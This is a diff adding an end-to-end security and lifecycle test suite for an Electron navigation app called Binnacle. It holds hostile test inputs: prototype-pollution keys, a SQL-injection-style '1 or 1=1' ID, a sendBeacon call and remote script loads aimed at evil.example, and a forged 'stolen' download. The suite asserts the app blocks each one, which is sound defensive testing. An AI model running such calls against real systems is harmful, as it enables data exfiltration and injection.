@@ -1,0 +1,335 @@
+// The running application's outer wall: the door, the page's cage, and what starting, ending and crashing leave behind.
+import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
+import type { Page } from 'playwright'
+import { afterEach, beforeEach, describe, expect, test } from 'vitest'
+import type { AppState } from '../../shared/app.ts'
+import { COLOURS } from '../../shared/palette.ts'
+import type { Result } from '../../shared/result.ts'
+import { noKeychain } from '../unit/keychain/keyring-session.ts'
+import { launchBinnacle, type Launched } from './launch.ts'
+import { at, chooseTraining } from './officer.ts'
+
+let folder: string
+let running: Launched[]
+beforeEach(() => {
+  folder = mkdtempSync(join(tmpdir(), 'shell-'))
+  running = []
+})
+afterEach(async () => {
+  for (const { close } of running) await close()
+  rmSync(folder, { recursive: true, force: true, maxRetries: 5 })
+})
+
+async function launch(): Promise<Launched> {
+  const launched = await launchBinnacle({ userDataDir: folder, env: { ...noKeychain } })
+  running.push(launched)
+  return launched
+}
+
+const invoke = (page: Page, name: unknown, input: unknown): Promise<Result<unknown>> =>
+  page.evaluate(([called, given]) => window.binnacle.invoke(called as string, given), [
+    name,
+    input,
+  ] as const) as Promise<Result<unknown>>
+
+async function stateOf(page: Page): Promise<AppState> {
+  const answer = await invoke(page, 'app.state', {})
+  if (!answer.ok) throw new Error(answer.fault.message)
+  return answer.value as AppState
+}
+
+const log = (): string => readFileSync(join(folder, 'logs', 'binnacle.log'), 'utf8')
+
+describe('the door', () => {
+  test('refuses what does not fit, in words, and goes on working', async () => {
+    const { page } = await launch()
+    const refused: [unknown, unknown][] = [
+      ['__proto__', {}],
+      ['constructor', {}],
+      ['', {}],
+      [7, {}],
+      [null, {}],
+      [{ name: 'app.state' }, {}],
+      ['app.state', null],
+      ['app.state', []],
+      ['app.state', { more: 1 }],
+      ['app.setPalette', { palette: 'pink' }],
+      ['app.setLayout', { panelWidthPx: 1e9, stripHeightPx: 200 }],
+      ['voyage.get', { voyageId: '1 or 1=1' }],
+      ['key.set', { apiKey: 'x'.repeat(10_000) }],
+    ]
+    for (const [name, input] of refused) {
+      expect(await invoke(page, name, input), JSON.stringify(name)).toMatchObject({
+        ok: false,
+        fault: { code: 'bad-input' },
+      })
+    }
+    const polluted = await page.evaluate(() =>
+      window.binnacle.invoke('app.setPalette', JSON.parse('{"palette":"night","__proto__":{"polluted":true}}')),
+    )
+    expect((await stateOf(page)).palette, JSON.stringify(polluted)).toBe('day')
+    const huge = await page.evaluate(() =>
+      window.binnacle.invoke('voyage.import', { fileName: 'x', text: 'y'.repeat(5_000_000) }),
+    )
+    expect(huge).toMatchObject({ ok: false, fault: { code: 'bad-input' } })
+    expect((await stateOf(page)).mode).toBeNull()
+  })
+
+  test('refuses another window, even with our own page and preload in it', async () => {
+    const { app, page } = await launch()
+    const opened = app.waitForEvent('window')
+    await app.evaluate(
+      async ({ BrowserWindow }, preload) => {
+        const [ours] = BrowserWindow.getAllWindows()
+        if (ours === undefined) throw new Error('no window')
+        const { session } = ours.webContents
+        const webPreferences = { session, preload, sandbox: true, contextIsolation: true }
+        const second = new BrowserWindow({ show: false, webPreferences })
+        await second.loadURL(ours.webContents.getURL())
+      },
+      join(import.meta.dirname, '../../out/preload/preload.cjs'),
+    )
+    const second = await opened
+    await at(second, 'app').waitFor()
+    const stranger = await invoke(second, 'app.state', {})
+    await second.close()
+    expect(stranger).toMatchObject({
+      ok: false,
+      fault: { code: 'bad-input', message: expect.stringMatching(/own window/) as string },
+    })
+    expect((await stateOf(page)).palette).toBe('day')
+  })
+})
+
+describe('the page', () => {
+  test('has two functions and nothing of Node or Electron', async () => {
+    const { page } = await launch()
+    const found = await page.evaluate(() => ({
+      bridge: Object.keys(window.binnacle).toSorted(),
+      frozen: Object.isFrozen(window.binnacle),
+      globals: ['require', 'process', 'module', 'Buffer', 'electron', 'ipcRenderer', 'global'].filter(
+        (name) => name in window,
+      ),
+    }))
+    expect(found).toEqual({ bridge: ['invoke', 'on'], frozen: true, globals: [] })
+  })
+
+  test('cannot leave, open, embed, download, fetch, or run what did not come with it', async () => {
+    const { app, page } = await launch()
+    const address = page.url()
+    const failed = await page.evaluate(async () => {
+      const outcome: Record<string, unknown> = {}
+      const violations: string[] = []
+      Object.assign(window, { violations })
+      document.addEventListener('securitypolicyviolation', (event) => {
+        violations.push(`${event.effectiveDirective} ${event.blockedURI}`)
+      })
+      const attempt = async (name: string, work: () => unknown): Promise<void> => {
+        try {
+          outcome[name] = String(await work())
+        } catch {
+          outcome[name] = 'failed'
+        }
+      }
+      await attempt('fetch elsewhere', () => fetch('https://service.example/'))
+      await attempt('fetch loopback', () => fetch('http://127.0.0.1:9/'))
+      await attempt('fetch own files', () => fetch('./index.html'))
+      await attempt(
+        'socket',
+        () =>
+          new Promise((resolve, reject) => {
+            const socket = new WebSocket('ws://127.0.0.1:9/')
+            socket.addEventListener('open', resolve)
+            socket.addEventListener('error', reject)
+          }),
+      )
+      await attempt('eval', () => (0, eval)('1 + 1'))
+      await attempt('new Function', () => new Function('return 2')())
+      await attempt('window.open', () => window.open('https://evil.example/'))
+      await attempt('geolocation', async () => (await navigator.permissions.query({ name: 'geolocation' })).state)
+      navigator.sendBeacon('https://evil.example/', 'x')
+      const frame = document.createElement('iframe')
+      frame.src = 'https://evil.example/'
+      const script = document.createElement('script')
+      script.textContent = 'window.wasRun = true'
+      const remote = document.createElement('script')
+      remote.src = 'https://evil.example/x.js'
+      const image = document.createElement('img')
+      image.src = 'https://evil.example/x.png'
+      const styled = document.createElement('div')
+      styled.innerHTML = '<b style="color: red">x</b>'
+      document.body.append(frame, script, remote, image, styled)
+      return outcome
+    })
+    expect(failed).toEqual({
+      'fetch elsewhere': 'failed',
+      'fetch loopback': 'failed',
+      'fetch own files': 'failed',
+      socket: 'failed',
+      eval: 'failed',
+      'new Function': 'failed',
+      'window.open': 'null',
+      geolocation: 'denied',
+    })
+    const violations = (): Promise<string[]> =>
+      page.evaluate(() => [...new Set((window as unknown as { violations: string[] }).violations)].toSorted())
+    await expect
+      .poll(violations)
+      .toEqual(
+        expect.arrayContaining([
+          'connect-src http://127.0.0.1:9/',
+          'connect-src https://evil.example/',
+          'connect-src https://service.example/',
+          'connect-src ws://127.0.0.1:9/',
+          'frame-src https://evil.example',
+          'img-src https://evil.example/x.png',
+          'script-src eval',
+          'script-src-elem https://evil.example/x.js',
+          'script-src-elem inline',
+          'style-src-attr inline',
+        ]),
+      )
+    expect(await page.evaluate(() => 'wasRun' in window)).toBe(false)
+    await page.evaluate(() => void (location.href = 'https://evil.example/'))
+    await expect.poll(log).toMatch(/a navigation.* to https:\/\/evil\.example\/ was refused/)
+    await page.evaluate(() => {
+      const link = document.createElement('a')
+      link.href = 'data:text/plain,stolen'
+      link.download = 'stolen.txt'
+      document.body.append(link)
+      link.click()
+    })
+    await expect.poll(log).toMatch(/a download was refused/)
+    expect(page.url()).toBe(address)
+    expect(await app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows().length)).toBe(1)
+    expect((await stateOf(page)).version).toMatch(/^\d+\.\d+\.\d+/)
+  })
+
+  test('is in the kept palette from its first frame, window and all', async () => {
+    const first = await launch()
+    await at(first.page, 'palette-night').click()
+    await expect.poll(async () => (await stateOf(first.page)).palette).toBe('night')
+    await first.close()
+    const { app, page } = await launch()
+    const look = await app.evaluate(({ BrowserWindow, nativeTheme }) => ({
+      background: BrowserWindow.getAllWindows()[0]?.getBackgroundColor().toLowerCase(),
+      theme: nativeTheme.themeSource,
+    }))
+    expect(look).toEqual({ background: COLOURS.night.bg, theme: 'dark' })
+    // What was served, before any script ran.
+    const served = await app.evaluate(async ({ BrowserWindow }) => {
+      const [ours] = BrowserWindow.getAllWindows()
+      return ours?.webContents.getURL()
+    })
+    expect(served).toBe('app://bundle/index.html')
+    expect(await page.evaluate(() => document.documentElement.dataset['palette'])).toBe('night')
+  })
+})
+
+describe('starting and ending', () => {
+  test('a second start brings the first to the front and ends', async () => {
+    const { app, page } = await launch()
+    await app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows()[0]?.minimize())
+    await expect(launchBinnacle({ userDataDir: folder, env: { ...noKeychain } })).rejects.toThrow()
+    await expect
+      .poll(() => app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows()[0]?.isMinimized()))
+      .toBe(false)
+    expect((await stateOf(page)).fault).toBeNull()
+  })
+
+  test('closing the window ends the application in order: databases closed, bounds kept', async () => {
+    const { app, page } = await launch()
+    await chooseTraining(page)
+    await invoke(page, 'voyage.importSample', {})
+    await app.evaluate(({ BrowserWindow }) =>
+      BrowserWindow.getAllWindows()[0]?.setBounds({ x: 100, y: 60, width: 1200, height: 700 }),
+    )
+    const gone = new Promise<number | null>((resolve) => app.process().once('exit', resolve))
+    await app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows()[0]?.close())
+    expect(await gone).toBe(0)
+    expect(readdirSync(join(folder, 'training')).filter((name) => /-(wal|shm)$/.test(name))).toEqual([])
+    expect(log()).not.toMatch(/ error /)
+    const again = await launch()
+    const bounds = await again.app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows()[0]?.getBounds())
+    expect(bounds).toEqual({ x: 100, y: 60, width: 1200, height: 700 })
+    await at(again.page, 'training-mark').waitFor()
+  })
+
+  test('broken settings are set aside, said so, and the first question is asked again', async () => {
+    writeFileSync(join(folder, 'preferences.json'), '{"mode":"training"')
+    const { page } = await launch()
+    await at(page, 'first-run').waitFor()
+    await expect
+      .poll(() => at(page, 'notice').allInnerTexts())
+      .toEqual([expect.stringMatching(/settings could not be read and were set aside/)])
+  })
+
+  test('a page that crashes comes back as it was', async () => {
+    const { app, page } = await launch()
+    await chooseTraining(page)
+    await invoke(page, 'voyage.importSample', {})
+    await app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows()[0]?.webContents.forcefullyCrashRenderer())
+    const title = (): Promise<string | undefined> =>
+      app.evaluate(async ({ BrowserWindow }) => {
+        const contents = BrowserWindow.getAllWindows()[0]?.webContents
+        return contents === undefined || contents.isCrashed()
+          ? undefined
+          : String(await contents.executeJavaScript('document.title + document.body.innerText'))
+      })
+    await expect.poll(log, { timeout: 20_000 }).toMatch(/the page's process ended: crashed/)
+    await expect.poll(title, { timeout: 20_000 }).toMatch(/Bishop Rock/)
+  })
+})
+
+describe('the menu', () => {
+  const click = ({ app }: Launched, id: string): Promise<void> =>
+    app.evaluate(({ Menu }, wanted) => void Menu.getApplicationMenu()?.getMenuItemById(wanted)?.click(), id)
+  const answerDialogs = ({ app }: Launched, filePaths: string[]): Promise<void> =>
+    app.evaluate(({ dialog }, paths) => {
+      const said: string[] = []
+      Object.assign(globalThis, { said })
+      dialog.showOpenDialog = () => Promise.resolve({ canceled: paths.length === 0, filePaths: paths })
+      dialog.showMessageBox = (...args: unknown[]) => {
+        const { message, detail } = args.at(-1) as { message: string; detail: string }
+        said.push(`${message} ${detail}`.trim())
+        return Promise.resolve({ response: 0, checkboxChecked: false })
+      }
+    }, filePaths)
+  const said = ({ app }: Launched): Promise<string[]> =>
+    app.evaluate(() => (globalThis as unknown as { said: string[] }).said)
+
+  test('opens a route, changes the palette, and says what Binnacle is not for', async () => {
+    const launched = await launch()
+    const { page } = launched
+    await chooseTraining(page)
+    await answerDialogs(launched, [join(import.meta.dirname, '../fixtures/routes/north-atlantic.rtz')])
+    await click(launched, 'open-route')
+    await page.getByText('Bishop Rock – Ambrose').first().waitFor()
+    await click(launched, 'palette-dusk')
+    await page.locator('html[data-palette="dusk"]').waitFor()
+    expect(
+      await launched.app.evaluate(({ Menu }) => Menu.getApplicationMenu()?.getMenuItemById('palette-dusk')?.checked),
+    ).toBe(true)
+    await click(launched, 'about')
+    await expect.poll(() => said(launched)).toEqual([expect.stringMatching(/Not for primary navigation/)])
+  })
+
+  test.each([
+    ['a file that is gone', 'gone.rtz', /“gone.rtz” is no longer there/],
+    ['a folder', '.', /is a folder/],
+    ['a file that is no route', 'page.rtz', /./],
+  ])('says what is wrong with %s', async (_what, name, sentence) => {
+    writeFileSync(join(folder, 'page.rtz'), '<!doctype html><p>Log in')
+    const launched = await launch()
+    await chooseTraining(launched.page)
+    await answerDialogs(launched, [join(folder, name)])
+    await click(launched, 'open-route')
+    await expect.poll(() => said(launched)).toEqual([expect.stringMatching(sentence)])
+    const answer = await invoke(launched.page, 'voyage.open', {})
+    expect(answer).toMatchObject({ ok: false, fault: { message: expect.stringMatching(sentence) as string } })
+    await answerDialogs(launched, [])
+    expect(await invoke(launched.page, 'voyage.open', {})).toEqual({ ok: true, value: null })
+  })
+})
